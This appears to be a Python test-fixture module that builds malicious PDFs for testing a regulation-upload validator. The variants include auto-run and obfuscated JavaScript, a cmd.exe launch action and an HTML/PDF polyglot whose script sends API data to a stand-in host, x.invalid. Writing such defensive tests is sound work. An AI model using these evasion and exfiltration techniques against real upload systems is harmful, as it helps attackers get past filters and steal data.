"""PDFs for upload tests, built with pypdf: a plain one, and the hostile kinds the regulation
upload refuses (kentra.platform.regulations.pdf)."""

from __future__ import annotations

import io
import uuid
from collections.abc import Callable
from typing import Any

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    StreamObject,
    TextStringObject,
)


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _document(text: str) -> PdfWriter:
    """One blank A4 page; ``text`` and a random id in the title make every file unique."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_metadata({"/Title": f"{text} {uuid.uuid4().hex}"})
    return writer


def plain_pdf(text: str = "regulation", *, padding: int = 0) -> bytes:
    """A well-formed one-page PDF with nothing active in it; ``padding`` bytes of blank page
    content make it larger."""
    writer = _document(text)
    if padding:
        content = StreamObject()
        content.set_data(b" " * padding)
        writer.pages[0][NameObject("/Contents")] = writer._add_object(content)
    return _written(writer)


def _javascript(code: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(code),
        }
    )


def _opening_with(text: str, action: DictionaryObject) -> bytes:
    """A document (titled ``text``) that runs ``action`` when it opens (the catalog's /OpenAction)."""
    writer = _document(text)
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _written(writer)


def open_action_javascript() -> bytes:
    """JavaScript run when the document opens (the catalog's /OpenAction)."""
    return _opening_with("open action", _javascript("app.alert('owned');"))


def names_tree_javascript() -> bytes:
    """Document-level JavaScript in the names tree (/Names /JavaScript)."""
    writer = _document("names tree")
    tree = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject("init"), writer._add_object(_javascript("app.alert(1);"))]
            )
        }
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )
    return _written(writer)


def annotation_javascript() -> bytes:
    """A link annotation whose additional action (/AA, on mouse-over) runs JavaScript."""
    writer = _document("annotation")
    writer.add_annotation(
        0,
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 200, 40)]),
                NameObject("/AA"): DictionaryObject(
                    {NameObject("/E"): _javascript("this.submitForm('https://x.invalid');")}
                ),
            }
        ),
    )
    return _written(writer)


def launch_action() -> bytes:
    """A /Launch action on opening: runs a program."""
    action = {
        NameObject("/Type"): NameObject("/Action"),
        NameObject("/S"): NameObject("/Launch"),
        NameObject("/F"): TextStringObject("cmd.exe"),
    }
    return _opening_with("launch", DictionaryObject(action))


def submit_form_action() -> bytes:
    """A /SubmitForm action: sends form data elsewhere."""
    action = {
        NameObject("/S"): NameObject("/SubmitForm"),
        NameObject("/F"): TextStringObject("https://collector.invalid/"),
    }
    return _opening_with("submit form", DictionaryObject(action))


def embedded_file() -> bytes:
    """An attachment in the document's /EmbeddedFiles names tree."""
    writer = _document("embedded")
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program")
    return _written(writer)


def _annotation(writer: PdfWriter, subtype: str, **entries: Any) -> None:
    writer.add_annotation(
        0,
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject(subtype),
                NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 200, 40)]),
                **{NameObject(f"/{key}"): value for key, value in entries.items()},
            }
        ),
    )


def rich_media() -> bytes:
    """A rich media annotation (a player with content and scripts of its own)."""
    writer = _document("rich media")
    _annotation(writer, "/RichMedia")
    return _written(writer)


def linked_pdf() -> bytes:
    """A plain PDF with a web link: links navigate, nothing runs, so it is accepted."""
    writer = _document("link")
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/URI"),
            NameObject("/URI"): TextStringObject("https://www.minscfa.gov.gr/"),
        }
    )
    _annotation(writer, "/Link", A=action)
    return _written(writer)


def xfa_form() -> bytes:
    """An AcroForm with an XFA packet (XML forms carry scripts of their own)."""
    writer = _document("xfa")
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): TextStringObject("<xdp:xdp><script>x</script></xdp:xdp>"),
        }
    )
    return _written(writer)


def _by_hand(objects: list[bytes], *, unindexed: bytes = b"") -> bytes:
    """A PDF written object by object (numbered from 1, the catalog first), with its
    cross-reference table; ``unindexed`` is written before the table as object 99, which the
    table does not list."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    if unindexed:
        out += b"99 0 obj\n" + unindexed + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    size = len(objects) + 1
    out += f"trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


_PAGE_TREE = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
]


def obfuscated_javascript() -> bytes:
    """/OpenAction JavaScript with its names hex-escaped (/J#61vaScript, /J#53): a byte
    search for "/JavaScript" alone would miss it."""
    return _by_hand(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *_PAGE_TREE,
            b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
        ]
    )


def unindexed_javascript() -> bytes:
    """A JavaScript action in an object the cross-reference table does not list: a reader
    that repairs the file may still find it."""
    return _by_hand(
        [b"<< /Type /Catalog /Pages 2 0 R >>", *_PAGE_TREE],
        unindexed=b"<< /S /JavaScript /JS (app.alert(1)) >>",
    )


def html_polyglot() -> bytes:
    """The finding: a PDF header and end marker around an HTML page with a script."""
    return (
        b"%PDF-1.4\n<html><body><script>fetch('/api/v1/municipalities').then(r=>r.text())"
        b".then(t=>navigator.sendBeacon('https://x.invalid',t))</script></body></html>\n"
        b"startxref\n0\n%%EOF\n"
    )


HOSTILE: dict[str, Callable[[], bytes]] = {
    "polyglot": html_polyglot,
    "open-action-javascript": open_action_javascript,
    "names-tree-javascript": names_tree_javascript,
    "annotation-javascript": annotation_javascript,
    "obfuscated-javascript": obfuscated_javascript,
    "unindexed-javascript": unindexed_javascript,
    "launch": launch_action,
    "submit-form": submit_form_action,
    "embedded-file": embedded_file,
    "xfa": xfa_form,
    "rich-media": rich_media,
}
